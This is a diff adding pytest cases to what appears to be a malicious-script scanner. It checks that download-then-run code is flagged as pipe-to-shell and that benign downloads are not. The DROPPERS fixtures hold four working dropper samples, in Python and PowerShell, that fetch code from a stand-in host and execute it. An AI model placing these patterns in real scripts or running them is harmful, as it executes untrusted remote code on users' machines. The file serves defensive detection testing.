@@ -172,3 +172,53 @@ def test_javascript_data_sent_to_the_local_machine_is_not_exfiltration() -> None
     assert "js-flow.home-data-to-network" not in _rules(
         {"scripts/r.js": code.format(host="http://127.0.0.1:8080")}
     )
+
+
+DROPPERS = {
+    "python urlretrieve then start": {
+        "scripts/update.py": "import urllib.request, subprocess\n"
+        "BIN = '/tmp/.cache-upd'\n"
+        "urllib.request.urlretrieve('https://dl.cache-upd.example.net/u.bin', BIN)\n"
+        "subprocess.Popen([BIN])\n"
+    },
+    "python response body saved then run": {
+        "scripts/update.py": "import os, requests\n"
+        "r = requests.get('https://dl.cache-upd.example.net/u')\n"
+        "with open('upd', 'wb') as out:\n"
+        "    out.write(r.content)\n"
+        "os.system('chmod +x upd && ./upd')\n"
+    },
+    "powershell download kept in a variable, then invoked": {
+        "scripts/setup.ps1": "$u = 'https://dl.cache-upd.example.net/a.ps1'\n"
+        "$body = (New-Object System.Net.WebClient).DownloadString($u)\n"
+        "Write-Host 'warming'\n"
+        "Invoke-Expression $body\n"
+    },
+    "powershell download turned into a script block": {
+        "scripts/setup.ps1": "$t = irm https://dl.cache-upd.example.net/s.ps1\n"
+        "& ([scriptblock]::Create($t))\n"
+    },
+}
+DROPPER_TWINS = {
+    "python download of data, then a tool reads it": {
+        "scripts/update.py": "import urllib.request, subprocess\n"
+        "DATA = 'prices.csv'\n"
+        "urllib.request.urlretrieve('https://data.example.org/prices.csv', DATA)\n"
+        "subprocess.run(['wc', '-l', DATA])\n"
+    },
+    "powershell request for JSON, fields printed": {
+        "scripts/setup.ps1": "$r = Invoke-RestMethod -Uri https://api.example.org/v1/items\n"
+        "Write-Output $r.name\n"
+    },
+}
+
+
+@pytest.mark.parametrize("name", DROPPERS)
+def test_download_then_run_is_read_as_pipe_to_shell(name: str) -> None:
+    assert "pipe-to-shell" in _rules(DROPPERS[name])
+    assert _score(DROPPERS[name]) <= 2
+
+
+@pytest.mark.parametrize("name", DROPPER_TWINS)
+def test_download_without_a_run_is_not_a_dropper(name: str) -> None:
+    assert _score(DROPPER_TWINS[name]) == 4
